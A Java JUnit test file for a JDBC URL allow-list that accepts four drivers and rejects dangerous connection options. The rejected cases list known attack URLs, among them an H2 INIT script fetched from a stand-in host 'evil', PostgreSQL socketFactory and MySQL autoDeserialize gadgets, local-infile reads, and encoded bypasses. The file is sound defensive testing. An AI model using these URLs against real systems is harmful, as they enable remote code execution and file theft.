package dev.fourfold.connector;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.fourfold.shared.InvalidInputException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The allow-list of JDBC URLs: four drivers, their harmless parameters, and nothing that runs code or reads files. */
class JdbcUrlsTests {

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:postgresql://erp.example.com:5432/erp",
        "jdbc:postgresql://erp.example.com/erp?sslmode=verify-full&sslrootcert=/etc/ssl/erp.crt&ApplicationName=fourfold",
        "jdbc:mysql://crm.example.com:3306/crm?sslMode=VERIFY_IDENTITY&connectTimeout=5000",
        "jdbc:mariadb://crm.example.com/crm?sslMode=verify-full",
        "jdbc:sqlserver://sql.example.com:1433;databaseName=erp;encrypt=true;trustStore=/etc/ssl/erp.jks",
    })
    void acceptsTheFourDriversWithHarmlessParameters(String url) {
        assertThat(JdbcUrls.check(url, false)).isIn("postgresql", "mysql", "mariadb", "sqlserver");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "",
        "jdbc:oracle:thin:@erp:1521:orcl",
        "jdbc:sqlite:/etc/passwd",
        "jdbc:derby:memory:x;create=true",
        "jdbc:h2:mem:erp",
        "jdbc:h2:mem:erp;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:file:/tmp/erp",
        "jdbc:postgresql://erp/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://erp/erp?socketFactoryArg=http://evil/x.xml",
        "jdbc:postgresql://erp/erp?sslfactory=x.Y",
        "jdbc:postgresql://erp/erp?sslpasswordcallback=x.Y",
        "jdbc:postgresql://erp/erp?loggerFile=/tmp/x.jsp&loggerLevel=DEBUG",
        "jdbc:postgresql://erp/erp?authenticationPluginClassName=x.Y",
        "jdbc:postgresql://erp/erp?options=-c%20default_transaction_read_only=off",
        "jdbc:postgresql://erp/erp?%73ocketFactory=x.Y",
        "jdbc:postgresql://erp/erp?%2573ocketFactory=x.Y",
        "jdbc:mysql://crm/crm?allowLoadLocalInfile=true",
        "jdbc:mysql://crm/crm?allowUrlInLocalInfile=true",
        "jdbc:mysql://crm/crm?autoDeserialize=true",
        "jdbc:mysql://crm/crm?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
        "jdbc:mysql://crm/crm?statementInterceptors=x.Y",
        "jdbc:mysql://crm/crm?exceptionInterceptors=x.Y",
        "jdbc:mysql://crm/crm?connectionLifecycleInterceptors=x.Y",
        "jdbc:mysql://crm/crm?authenticationPlugins=x.Y",
        "jdbc:mysql://(host=crm,allowLoadLocalInfile=true)/crm",
        "jdbc:mysql://address=(host=crm)(autoDeserialize=true)/crm",
        "jdbc:mariadb://crm/crm?allowLocalInfile=true",
        "jdbc:mariadb://crm/crm?socketFactory=x.Y",
        "jdbc:sqlserver://sql;databaseName=erp;accessTokenCallbackClass=x.Y",
        "jdbc:sqlserver://sql;databaseName=erp;trustManagerClass=x.Y",
        "jdbc:sqlserver://sql;databaseName=erp;socketFactoryClass=x.Y",
        "jdbc:postgresql://erp/erp\nfoo",
    })
    void refusesOtherDriversAndDangerousOptions(String url) {
        assertThatThrownBy(() -> JdbcUrls.check(url, false)).isInstanceOfSatisfying(InvalidInputException.class,
                e -> assertThat(e.problems()).singleElement().satisfies(p -> assertThat(p.field()).isEqualTo("jdbcUrl")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:erp;INIT=RUNSCRIPT FROM 'x.sql'", "jdbc:h2:file:/tmp/erp", "jdbc:h2:mem:erp;TRACE_LEVEL_FILE=3"})
    void refusesDangerousH2UrlsEvenWhenH2IsAllowed(String url) {
        assertThatThrownBy(() -> JdbcUrls.check(url, true)).isInstanceOf(InvalidInputException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:erp;MODE=PostgreSQL;DB_CLOSE_DELAY=-1"})
    void acceptsAnInMemoryH2OnlyWhenAllowed(String url) {
        assertThat(JdbcUrls.check(url, true)).isEqualTo("h2");
        assertThatThrownBy(() -> JdbcUrls.check(url, false)).isInstanceOf(InvalidInputException.class);
    }
}
